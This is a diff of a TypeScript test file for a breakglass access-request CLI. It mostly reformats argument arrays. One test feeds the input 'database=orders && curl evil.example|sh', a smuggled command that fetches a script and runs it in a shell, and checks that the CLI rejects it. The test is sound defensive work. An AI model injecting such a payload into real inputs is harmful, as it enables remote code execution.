@@ -10,8 +10,25 @@ import { binary, cli, ROOT } from './helpers/cli.js';
 
 const FIXTURES = join(ROOT, 'test', 'fixtures');
 const newRequest = (id: string, extra: string[] = []) => [
-  'request', 'new', '--id', id, '--resource', 'prod-eu', '--privilege', 'view', '--duration', '30m', '--network', 'direct',
-  '--reason', 'INC-7: read pod logs on prod-eu', '--requester', 'oncall@vendor.example', '--recipient', '0123456789ABCDEF0123456789ABCDEF01234567', ...extra,
+  'request',
+  'new',
+  '--id',
+  id,
+  '--resource',
+  'prod-eu',
+  '--privilege',
+  'view',
+  '--duration',
+  '30m',
+  '--network',
+  'direct',
+  '--reason',
+  'INC-7: read pod logs on prod-eu',
+  '--requester',
+  'oncall@vendor.example',
+  '--recipient',
+  '0123456789ABCDEF0123456789ABCDEF01234567',
+  ...extra,
 ];
 
 async function scratch(): Promise<string> {
@@ -87,7 +104,33 @@ describe('breakglass request new', () => {
 
   it('passes shell metacharacters through as one literal value and rejects them', async () => {
     const dir = await scratch();
-    const r = await cli(['request', 'new', '--id', 'inc-9-db', '--resource', 'orders-db', '--privilege', 'read-write', '--duration', '30m', '--network', 'twingate', '--reason', 'INC-9: orders database is down hard', '--requester', 'dba@vendor.example', '--recipient', '0123456789ABCDEF0123456789ABCDEF01234567', '--command', 'db-password', '--input', 'database=orders && curl evil.example|sh'], { cwd: dir });
+    const r = await cli(
+      [
+        'request',
+        'new',
+        '--id',
+        'inc-9-db',
+        '--resource',
+        'orders-db',
+        '--privilege',
+        'read-write',
+        '--duration',
+        '30m',
+        '--network',
+        'twingate',
+        '--reason',
+        'INC-9: orders database is down hard',
+        '--requester',
+        'dba@vendor.example',
+        '--recipient',
+        '0123456789ABCDEF0123456789ABCDEF01234567',
+        '--command',
+        'db-password',
+        '--input',
+        'database=orders && curl evil.example|sh',
+      ],
+      { cwd: dir },
+    );
     expect(r.code).toBe(1);
     expect(r.stderr).toContain('error INPUT_UNSAFE: input database "orders && curl evil.example|sh" contains " " (U+0020)');
   });
